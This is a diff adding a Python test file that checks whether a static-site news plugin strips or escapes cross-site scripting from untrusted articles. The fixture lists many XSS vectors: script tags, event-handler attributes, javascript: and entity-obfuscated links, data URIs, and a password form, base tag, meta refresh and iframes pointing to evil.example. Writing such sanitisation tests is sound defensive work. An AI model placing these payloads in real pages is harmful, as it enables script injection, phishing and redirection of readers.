@@ -1,0 +1,98 @@
+"""Untrusted articles never run script in a reader's browser, whichever way the attack is written."""
+
+from __future__ import annotations
+
+import re
+
+from bs4 import BeautifulSoup, Comment
+
+from conftest import article
+
+ATTACK_BODY = """\
+第一段<script>alert('body')</script>正常文字。
+
+![图](x.png){: onerror="alert('img')" } <img src="https://example.org/x.png" onerror="alert('img')">
+<svg onload="alert(1)"><circle/></svg>
+
+<a href="javascript:alert('a')">点我</a> [链接](javascript:alert('md')) [大写](JAVASCRIPT:alert(1))
+[实体](jav&#x61;script:alert(1)) ![数据](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)
+
+段落带属性 {: onclick="alert('attr')" style="position:fixed;top:0" data-md-component="dialog" }
+
+<base href="https://evil.example/"> <meta http-equiv="refresh" content="0;url=https://evil.example/">
+<form action="https://evil.example/"><input name="password"><button>提交</button></form>
+<style>body { display: none }</style>
+<iframe src="https://evil.example/"></iframe>
+<iframe src="https://player.v.qq.com/iframe/player.html?vid=x"></iframe>
+<object data="x.swf"></object><embed src="x.swf"><link rel="stylesheet" href="https://evil.example/x.css">
+<!-- 编辑部内部意见：这段不要发 -->
+<div style="background:url(javascript:alert(1))" onmouseover="alert(2)">悬停</div>
+<a href="https://example.org/" target="_blank">外部链接</a>
+"""
+
+TITLE = "<script>alert('title')</script>标题</title><img src=x onerror=alert(1)>"
+
+
+def build_attack_site(site):
+    site.config["plugins"] = [{"healthpress": {"iframe_hosts": ["player.v.qq.com"]}}]
+    site.config["markdown_extensions"] = ["attr_list", "md_in_html"]
+    site.write("news/attack.md", article(TITLE, "2013-05-08", body=ATTACK_BODY,
+                                         tags=["<b onmouseover=alert(1)>标签</b>"],
+                                         author="<script>alert('author')</script>",
+                                         unit="\"><script>alert('unit')</script>"))
+    (site.root / "content" / "news" / "x.png").write_bytes(b"\x89PNG\r\n\x1a\n")
+    site.write("news/summary.md", article("摘要攻击", "2013-05-09", summary="<img src=x onerror=alert('summary')>"))
+    return site.build()
+
+
+def test_no_page_carries_script_from_an_article(site):
+    built = build_attack_site(site)
+    pages = built.all_pages()
+    assert len(pages) > 8
+    for path in pages:
+        soup = BeautifulSoup(path.read_text(encoding="utf-8"), "lxml")
+        for script in soup.find_all("script"):
+            assert "alert" not in script.get_text(), (path, script)
+            assert not script.get("src") or "assets/javascripts/" in script["src"], (path, script)
+        for tag in soup.find_all(True):
+            for name, value in tag.attrs.items():
+                assert not name.startswith("on"), (path, tag)
+                value = " ".join(value) if isinstance(value, list) else value
+                assert not re.match(r"\s*(javascript|vbscript|data):", value, re.I), (path, tag)
+        assert not soup.find_all(["base", "form", "object", "embed", "link"], href=re.compile("evil")), path
+        content = soup.select_one(".md-content")
+        assert not content.find_all(["base", "form", "input", "button", "object", "embed", "svg", "style"]), path
+        assert not soup.find("meta", attrs={"http-equiv": True}), path
+        assert not soup.find_all(string=lambda s: isinstance(s, Comment) and "编辑部" in s), path
+        assert len(soup.find_all("title")) == 1 and not soup.find("title").find_all(True), path
+
+
+def test_article_keeps_what_it_needs_and_loses_the_rest(site):
+    built = build_attack_site(site)
+    page = built.page("news/2013/05/attack/")
+    body = page.select_one(".hp-article__body")
+    assert not body.find_all("style") and not body.find_all(style=True)
+    assert not body.find_all(attrs={"data-md-component": True})
+    frames = body.find_all("iframe")
+    assert [f["src"] for f in frames] == ["https://player.v.qq.com/iframe/player.html?vid=x"]
+    assert frames[0]["sandbox"] and frames[0]["loading"] == "lazy"
+    external = body.find("a", string="外部链接")
+    assert external["rel"] == ["noopener", "noreferrer"] and not external.get("target")
+    assert "悬停" in body.get_text() and "正常文字" in body.get_text()
+    assert "这段不要发" not in page.decode()
+
+
+def test_front_matter_text_is_escaped_everywhere(site):
+    built = build_attack_site(site)
+    article_page = built.page("news/2013/05/attack/")
+    assert article_page.select_one(".hp-article__header h1").get_text() == TITLE
+    assert TITLE in article_page.find("title").get_text()
+    meta = article_page.select_one(".hp-meta").get_text()
+    assert "<script>alert('author')</script>" in meta and "\"><script>alert('unit')</script>" in meta
+    listing = built.page("news/")
+    assert TITLE in [a.get_text() for a in listing.select(".hp-list__title")]
+    assert "<img src=x onerror=alert('summary')>" in [p.get_text() for p in listing.select(".hp-list__summary")]
+    tags = built.page("tags/")
+    assert "<b onmouseover=alert(1)>标签</b>" in tags.select_one(".hp-tag").get_text()
+    summary = [p.get_text() for p in built.page("news/").select(".hp-list__summary")]
+    assert any(text.startswith("第一段正常文字") for text in summary), summary
